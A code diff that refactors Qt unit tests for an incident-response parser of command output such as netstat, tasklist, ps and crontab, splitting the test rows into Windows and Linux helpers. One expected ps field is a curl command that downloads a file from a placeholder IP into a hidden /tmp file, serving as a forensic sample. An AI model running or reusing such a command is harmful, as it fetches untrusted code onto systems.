@@ -38,13 +38,10 @@ private slots:
     void splitsEndpoints();
 };
 
-void TestLiveResponseReader::detects_data()
-{
-    QTest::addColumn<QString>("file");
-    QTest::addColumn<QString>("command");
-    QTest::addColumn<QString>("language");
-    QTest::addColumn<int>("rows");
+namespace {
 
+void addWindowsDetectionRows()
+{
     QTest::addRow("win-netstat-aon") << "live-response/jc-win10-netstat-aon.out"
                                      << "netstat-windows"
                                      << "en" << 208;
@@ -99,6 +96,10 @@ void TestLiveResponseReader::detects_data()
     QTest::addRow("reg-query") << "composed/reg-query-run.out"
                                << "reg-query"
                                << "" << 6;
+}
+
+void addLinuxDetectionRows()
+{
     QTest::addRow("linux-netstat-lnp") << "live-response/jc-ubuntu1804-netstat-sudo-lnp-space.out"
                                        << "netstat-linux"
                                        << "" << 47;
@@ -165,6 +166,19 @@ void TestLiveResponseReader::detects_data()
     QTest::addRow("crontab-l") << "composed/crontab-l.out"
                                << "crontab"
                                << "" << 3;
+}
+
+} // namespace
+
+void TestLiveResponseReader::detects_data()
+{
+    QTest::addColumn<QString>("file");
+    QTest::addColumn<QString>("command");
+    QTest::addColumn<QString>("language");
+    QTest::addColumn<int>("rows");
+
+    addWindowsDetectionRows();
+    addLinuxDetectionRows();
 }
 
 void TestLiveResponseReader::detects()
@@ -254,13 +268,10 @@ void TestLiveResponseReader::matchesJc()
     }
 }
 
-void TestLiveResponseReader::rowFields_data()
-{
-    QTest::addColumn<QString>("file");
-    QTest::addColumn<int>("row");
-    QTest::addColumn<QString>("key");
-    QTest::addColumn<QString>("value");
+namespace {
 
+void addWindowsFieldRows()
+{
     QTest::addRow("tasklist-image-with-spaces") << "composed/tasklist-v-en.out" << 0 << "image_name"
                                                 << "System Idle Process";
     QTest::addRow("tasklist-user-with-space") << "composed/tasklist-v-en.out" << 1 << "user_name"
@@ -312,6 +323,10 @@ void TestLiveResponseReader::rowFields_data()
         << "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
     QTest::addRow("reg-default-no-data") << "composed/reg-query-run.out" << 5 << "name"
                                          << "(Default)";
+}
+
+void addLinuxFieldRows()
+{
     QTest::addRow("ps-ef-command-with-spaces") << "composed/ps-ef-tree.out" << 4 << "command"
                                                << "curl -s http://198.51.100.44:8443/x -o /tmp/.x";
     QTest::addRow("ps-ef-uid") << "composed/ps-ef-tree.out" << 2 << "uid"
@@ -336,6 +351,19 @@ void TestLiveResponseReader::rowFields_data()
                                      << "*/5";
     QTest::addRow("crontab-reboot") << "composed/crontab-l.out" << 2 << "occurrence"
                                     << "reboot";
+}
+
+} // namespace
+
+void TestLiveResponseReader::rowFields_data()
+{
+    QTest::addColumn<QString>("file");
+    QTest::addColumn<int>("row");
+    QTest::addColumn<QString>("key");
+    QTest::addColumn<QString>("value");
+
+    addWindowsFieldRows();
+    addLinuxFieldRows();
 }
 
 void TestLiveResponseReader::rowFields()
